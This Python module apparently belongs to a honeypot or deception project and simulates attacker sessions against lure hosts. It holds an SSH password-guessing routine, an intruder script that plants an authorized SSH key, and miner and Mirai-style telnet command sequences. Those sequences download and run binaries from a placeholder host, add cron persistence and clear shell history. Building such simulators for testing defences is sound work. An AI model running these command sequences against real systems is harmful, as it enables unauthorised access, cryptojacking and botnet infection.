"""What is done at SSH and telnet."""

import asyncio
from contextlib import suppress

import asyncssh

from decnet.lures.simulator.visit import Unreachable, Visit

WORDS = ("admin", "root", "123456", "password", "toor", "12345678", "qwerty", "changeme", "P@ssw0rd", "letmein")
CLIENTS = ("libssh_0.9.6", "Go", "PUTTY")
LOOK = ("uname -a", "id", "w", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "ls -la /tmp", "crontab -l")
MINER = (
    "cd /tmp || cd /var/tmp",
    "wget -q http://198.51.100.23/bins/xmr.x86 -O .x || curl -s -o .x http://198.51.100.23/bins/xmr.x86",
    "chmod +x .x; ./.x &",
    "(crontab -l; echo '*/5 * * * * /tmp/.x') | crontab -",
    "history -c",
)
INTRUDER = (
    "cat /etc/passwd | head -5",
    "mkdir -p ~/.ssh && chmod 700 ~/.ssh",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDEMODEMODEMODEMODEMODEMODEMODEMODEMO demo' >> ~/.ssh/authorized_keys",
    "cat ~/.bash_history | tail -20",
    "ip a | grep inet",
    "netstat -tlpn",
    "ps aux | head -15",
)


async def guess_ssh(visit: Visit) -> None:
    """Try passwords until one fits or the patience ends."""
    for word in visit.dice.sample(WORDS, 5):
        if await _run(visit, word, visit.dice.sample(LOOK, 2)):
            return
        await visit.pause(0.2, 0.8)


async def intrude_ssh(visit: Visit) -> None:
    """A person: a terminal, looking around, an own key left behind."""
    connection = await _enter(visit)
    if connection is None:
        return
    async with connection, connection.create_process(term_type="xterm-256color", term_size=(120, 34)) as shell:
        for line in (*visit.dice.sample(LOOK, 3), *INTRUDER):
            await visit.pause(0.2, 0.6)
            for key in line:
                shell.stdin.write(key)
                await asyncio.sleep(visit.dice.uniform(0.01, 0.05))
            shell.stdin.write("\r")
            await _listen(shell)
        shell.stdin.write("exit\r")
        await _listen(shell)


async def mine_ssh(visit: Visit) -> None:
    """A bot: one command after the other, a miner at their end."""
    connection = await _enter(visit)
    if connection is None:
        return
    async with connection:
        for command in (LOOK[0], LOOK[3], *MINER):
            await connection.run(command, check=False)
            await visit.pause(0.1, 0.4)


async def infect_telnet(visit: Visit) -> None:
    """What Mirai's loader types."""
    async with visit.connection() as (reader, writer):
        for answer in ("root", visit.dice.choice(("root", "123456", "password"))):
            await _until(reader, (b"login: ", b"assword: "))
            await visit.pause(0.2, 0.5)
            writer.write(answer.encode() + b"\r\n")
        if b"incorrect" in await _until(reader, (b"# ", b"$ ", b"> ", b"incorrect")):
            return
        for command in ("enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox DEMO",
                        "cd /tmp; /bin/busybox wget http://198.51.100.23/bins/demo.arm7 -O - > dvrHelper",
                        "chmod 777 dvrHelper; ./dvrHelper telnet.arm7", "/bin/busybox DEMO"):  # fmt: skip
            writer.write(command.encode() + b"\r\n")
            await writer.drain()
            await visit.pause(0.3, 0.8)
        with suppress(TimeoutError):
            async with asyncio.timeout(2):
                await reader.read(65536)


async def _enter(visit: Visit) -> asyncssh.SSHClientConnection | None:
    for word in ("root", "123456", "password"):
        connection = await _connect(visit, word)
        if connection is not None:
            return connection
        await visit.pause(0.1, 0.4)
    return None


async def _run(visit: Visit, word: str, commands: list[str]) -> bool:
    connection = await _connect(visit, word)
    if connection is None:
        return False
    async with connection:
        for command in commands:
            await connection.run(command, check=False)
    return True


async def _connect(visit: Visit, word: str) -> asyncssh.SSHClientConnection | None:
    """Come in as root; None where the password is wrong."""
    target = visit.target
    try:
        return await asyncssh.connect(
            target.address, target.port, local_addr=(visit.source, 0), username="root", password=word, known_hosts=None,
            client_keys=(), agent_path=None, config=None, client_version=visit.dice.choice(CLIENTS),
            preferred_auth="password", login_timeout=20, connect_timeout=10,
        )  # fmt: skip
    except asyncssh.PermissionDenied:
        return None
    except (OSError, asyncssh.Error) as err:
        raise Unreachable(f"ssh on {target.address}:{target.port}: {err}") from err


async def _listen(shell: asyncssh.SSHClientProcess[str]) -> None:
    """Wait until the shell has answered and is quiet."""
    with suppress(TimeoutError):
        while True:
            async with asyncio.timeout(0.4):
                if not await shell.stdout.read(4096):
                    return


async def _until(reader: asyncio.StreamReader, words: tuple[bytes, ...]) -> bytes:
    heard = b""
    while not any(word in heard for word in words):
        data = await reader.read(4096)
        if not data:
            raise Unreachable("telnet hung up")
        heard += data
    return heard
